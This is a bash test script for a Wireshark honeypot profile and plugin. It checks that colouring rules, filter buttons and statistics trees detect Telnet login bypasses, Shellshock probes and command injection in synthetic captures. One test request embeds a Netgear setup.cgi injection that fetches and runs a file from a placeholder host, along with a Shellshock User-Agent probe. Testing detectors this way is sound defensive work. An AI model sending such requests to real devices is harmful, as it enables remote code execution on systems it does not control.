#!/bin/bash
# e2e_profile.sh - the "Honeypot" profile and the statistics trees, with
# tshark: installing keeps the user's changes, tshark -C Honeypot shows the
# profile's columns and paints with its colouring rules, -z shellshock,tree
# counts Shellshock attempts by grade and CVE, and -z rce,tree command
# injection attempts by grade and exploit.
source "$(dirname "$0")/lib.sh"
HS_SOURCE_DIR=${HS_SOURCE_DIR:?HS_SOURCE_DIR must point at the source tree}
hs_setup
hs_require_plugin shellshock rce login

install_profile() {
    bash "$HS_SOURCE_DIR/scripts/install-profile.sh" "$HS_SOURCE_DIR/profiles/Honeypot" "$1"
}
dest="$HS_TMP/home/.config/wireshark/profiles/Honeypot"
install_profile "$dest" >/dev/null
hs_eq "install: every file of the profile" "$(cd "$dest" && ls | sort | tr '\n' ' ')" \
    "$(cd "$HS_SOURCE_DIR/profiles/Honeypot" && ls | sort | tr '\n' ' ')"

# A file the user changed survives a second install; an untouched one is updated.
echo '"Mine" ip.src == 192.0.2.1' >>"$dest/dfilters"
# decode_as_entries as an older honeyshark would have installed it, untouched since.
echo '# an older version' >"$dest/decode_as_entries"
old=$(sha256sum <"$dest/decode_as_entries" | cut -d' ' -f1)
sed -i "s/^[0-9a-f]* decode_as_entries\$/$old decode_as_entries/" "$dest/.honeyshark-installed"
out=$(install_profile "$dest")
hs_eq "reinstall: changed file kept" "$(grep -c '"Mine"' "$dest/dfilters")" "1"
hs_eq "reinstall: new version beside it" "$([ -f "$dest/dfilters.honeyshark-new" ] && echo yes)" "yes"
hs_eq "reinstall: says so, once" "$(grep -c 'kept your changed' <<<"$out")" "1"
hs_eq "reinstall: untouched old file updated" \
    "$(cmp -s "$dest/decode_as_entries" "$HS_SOURCE_DIR/profiles/Honeypot/decode_as_entries" && echo yes)" "yes"
cp "$HS_SOURCE_DIR/profiles/Honeypot/dfilters" "$dest/dfilters"
if [ "$(id -u)" = 0 ]; then chown -R nobody "$HS_TMP/home"; fi

hs_gencap demo <"$HS_SOURCE_DIR/demo/honeypot.gcs"
red=$(hs_frame demo red_ua)

# The profile's columns: grade (by name) and vector after the protocol.
line=$(hs_tshark -C Honeypot -r "$HS_TMP/demo.pcap" -Y "frame.number == $red")
hs_eq "tshark -C Honeypot: grade and vector columns" \
    "$(grep -cE 'HTTP +red +http\.header' <<<"$line")" "1"
plain=$(hs_tshark -r "$HS_TMP/demo.pcap" -Y "frame.number == $red")
hs_eq "default profile: no such columns" "$(grep -cE 'HTTP +red' <<<"$plain")" "0"

# Telnet on 2323 through the profile's Decode As entry.
hs_gencap t2323 <"$(dirname "$0")/captures/t2323.gcs"
hs_eq "Honeypot profile reads TCP/2323 as Telnet" \
    "$(hs_tshark -C Honeypot -r "$HS_TMP/t2323.pcap" -Y 'login.user == "root"' | wc -l)" "1"

# The Telnet login bypass (issue 14): a red colouring rule above the blue
# login one (Wireshark paints a row with the first rule that matches), and
# a filter button, each matching the bypass frames of the telnet capture.
hs_gencap telnet <"$(dirname "$0")/captures/telnet.gcs"
P=$HS_SOURCE_DIR/profiles/Honeypot
rule=$(awk -F@ '$2 == "Telnet login bypass" { print $3 "@" $4 }' "$P/colorfilters")
hs_eq "colouring rule: Telnet login bypass, red" "${rule#*@}" "[65535,41120,41120][0,0,0]"
hs_eq "colouring rule: before the login rule" \
    "$(awk -F@ '$2 ~ /^Telnet login/ { print $2 }' "$P/colorfilters" | tr '\n' ,)" \
    "Telnet login bypass,Telnet login attempt,"
hs_eq "colouring rule: matches both bypasses" "$(hs_count telnet "${rule%@*}")" "2"
button=$(awk -F'","' '$2 == "Login bypass" { print $3 }' "$P/dfilter_buttons")
hs_eq "filter button: Login bypass" "$button" "login.bypass"
hs_eq "filter button: matches both bypasses" "$(hs_count telnet "$button")" "2"

# Command injection (rce, issue 14): the profile's rules, column and button
# on the labelled requests of captures/rce.gcs, and on a request holding both
# a green Shellshock probe and a red injection.
hs_gencap rce <"$(dirname "$0")/captures/rce.gcs"
printf '%s\n' 'time 1411603200' 'tcp 198.51.100.30:40010 192.0.2.80:80' \
    'c "GET /setup.cgi?todo=syscmd&cmd=wget+http://198.51.100.9/x+-O+/tmp/x;sh+/tmp/x HTTP/1.1\r\nHost: 192.0.2.80\r\nUser-Agent: () { :;}; echo; echo vulnerable\r\n\r\n" @mixed' \
    close | hs_gencap mixed
# colour RULE-NAME: a rule's colours, "[fg][bg]".
colour() { awk -F@ -v n="$1" '$2 == n { print $4 }' "$P/colorfilters"; }
for g in "red (takes control)" "yellow (callback or unknown)" "green (probe)"; do
    hs_eq "colouring rule: Command injection: $g, in the Shellshock rule's colours" \
        "$(colour "Command injection: $g")" "$(colour "Shellshock: $g")"
done
# Wireshark paints a row with the first rule that matches: every red rule
# (Shellshock, command injection, login bypass) comes before every yellow
# one, and every yellow one before every green one, so a row shows the
# highest grade of any family.
hs_eq "colouring rules: the red ones, then the yellow, then the green" \
    "$(awk -F@ -v r='[65535,41120,41120][0,0,0]' -v y='[65535,61680,32896][0,0,0]' \
        -v g='[43690,62965,43690][0,0,0]' '
        $4 == r && (seen_y || seen_g) { bad = 1 }
        $4 == y { seen_y = 1; if (seen_g) bad = 1 }
        $4 == g { seen_g = 1 }
        END { print bad ? "no" : "yes" }' "$P/colorfilters")" yes
# painted CAP LABEL: the colouring rule tshark -C Honeypot paints the frame with.
painted() {
    hs_tshark -C Honeypot --color -r "$HS_TMP/$1.pcap" -Y "frame.number == $(hs_frame "$1" "$2")" \
        -T fields -e frame.coloring_rule.name 2>/dev/null
}
hs_eq "painted: Netgear injection red" "$(painted rce netgear)" "Command injection: red (takes control)"
hs_eq "painted: Huawei injection red" "$(painted rce huawei)" "Command injection: red (takes control)"
hs_eq "painted: header injection yellow" "$(painted rce header)" \
    "Command injection: yellow (callback or unknown)"
hs_eq "painted: clean request as plain HTTP" "$(painted rce clean)" "HTTP"
hs_eq "painted: Shellshock stays Shellshock" "$(painted rce shellshock)" "Shellshock: red (takes control)"
hs_eq "painted: green Shellshock probe beside a red injection: red" "$(painted mixed mixed)" \
    "Command injection: red (takes control)"
button=$(awk -F'","' '$2 == "RCE" { print $3 }' "$P/dfilter_buttons")
hs_eq "filter button: RCE" "$button" "rce"
hs_eq "filter button: matches the three injections" "$(hs_count rce "$button")" "3"
line=$(hs_tshark -C Honeypot -r "$HS_TMP/rce.pcap" -Y "frame.number == $(hs_frame rce huawei)")
hs_eq "tshark -C Honeypot: exploit column" "$(grep -cE 'HTTP +CVE-2017-17215 +[0-9]+ POST' <<<"$line")" "1"

# item STATS BRANCH ITEM: an item's count in one branch of a statistics
# tree's output (branches are indented by one space, items by two).
item() {
    awk -v b="$2" -v k="$3" '
        /^ [^ ]/ { inb = substr($0, 2, length(b) + 2) == b "  "; next }
        inb && /^  [^ ]/ && substr($0, 3, length(k) + 2) == k "  " {
            split(substr($0, length(k) + 3), w, " "); print w[1]; exit }' <<<"$1"
}
# The command injection tree: attempts of rce.gcs by grade, exploit, vector.
stats=$(hs_tshark -r "$HS_TMP/rce.pcap" -q -z rce,tree)
hs_eq "rce stats: attempts = frames with an injection" \
    "$(awk '/^Command injection attempts/ { print $4 }' <<<"$stats")" "$(hs_count rce rce)"
for g in red yellow; do
    hs_eq "rce stats: $g attempts" "$(item "$stats" "By grade" "$g")" \
        "$(hs_count rce "rce.grade == $g && !(rce.grade > $g)")"
done
hs_eq "rce stats: 2 red, 1 yellow, no green" \
    "$(item "$stats" "By grade" red),$(item "$stats" "By grade" yellow),$(item "$stats" "By grade" green)" "2,1,"
hs_eq "rce stats: exploit netgear-setup.cgi" "$(item "$stats" "By exploit" netgear-setup.cgi)" 1
hs_eq "rce stats: exploit CVE-2017-17215" "$(item "$stats" "By exploit" CVE-2017-17215)" 1
hs_eq "rce stats: exploit unknown (the header injection)" "$(item "$stats" "By exploit" unknown)" 1
for v in http.uri http.header http.body; do
    hs_eq "rce stats: vector $v" "$(item "$stats" "By vector" "$v")" 1
done
hs_eq "rce stats: no CVE branch" "$(grep -c 'By CVE' <<<"$stats")" 0
# Each family counts its own attempts: the Shellshock tree of rce.gcs holds
# its Shellshock request only; the mixed request is green there, red here.
ss=$(hs_tshark -r "$HS_TMP/rce.pcap" -q -z shellshock,tree)
hs_eq "shellshock stats of rce.gcs: the Shellshock request only" \
    "$(awk '/^Shellshock attempts/ { print $3 }' <<<"$ss")" 1
ss=$(hs_tshark -r "$HS_TMP/mixed.pcap" -q -z shellshock,tree)
stats=$(hs_tshark -r "$HS_TMP/mixed.pcap" -q -z rce,tree)
hs_eq "mixed request: a green Shellshock attempt" "$(item "$ss" "By grade" green)" 1
hs_eq "mixed request: a red injection attempt, with its exploit" \
    "$(item "$stats" "By grade" red),$(item "$stats" "By exploit" netgear-setup.cgi)" "1,1"

# The statistics tree: Shellshock attempts of the demo by grade and CVE.
stats=$(hs_tshark -r "$HS_TMP/demo.pcap" -q -z shellshock,tree)
count_of() { awk -v k="$1" '$1 == k { print $2; exit }' <<<"$stats"; }
total=$(hs_count demo shellshock)
hs_eq "stats: attempts = frames with a payload" "$(awk '/^Shellshock attempts/ { print $3 }' <<<"$stats")" "$total"
for g in red yellow green; do
    hs_eq "stats: $g attempts" "$(count_of "$g")" "$(hs_count demo "shellshock.grade == $g && !(shellshock.grade > $g)")"
done
hs_eq "stats: CVE-2014-6278" "$(count_of CVE-2014-6278)" "$(hs_count demo 'shellshock.cve == "CVE-2014-6278"')"
hs_eq "stats: telnet.command vector" "$(count_of telnet.command)" \
    "$(hs_count demo 'shellshock.vector == "telnet.command"')"
hs_done
